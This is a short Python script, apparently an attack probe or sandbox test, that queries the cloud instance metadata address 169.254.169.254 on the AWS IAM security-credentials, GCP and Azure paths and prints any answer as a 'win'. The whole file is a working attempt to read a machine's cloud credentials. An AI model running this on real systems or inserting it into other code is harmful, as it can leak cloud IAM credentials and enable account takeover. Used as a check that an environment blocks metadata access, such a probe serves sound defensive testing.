"""Attacked: the address at which clouds give a machine its credentials.

Won: an answer from it.
"""

import urllib.request

print("BEGUN")
won = False
for path in ("latest/meta-data/iam/security-credentials/", "computeMetadata/v1/", "metadata/instance"):
    try:
        with urllib.request.urlopen(f"http://169.254.169.254/{path}", timeout=1) as answer:
            print("WON", answer.read().decode())
            won = True
    except OSError as error:
        print(error)
print("DONE" if won else "HELD")
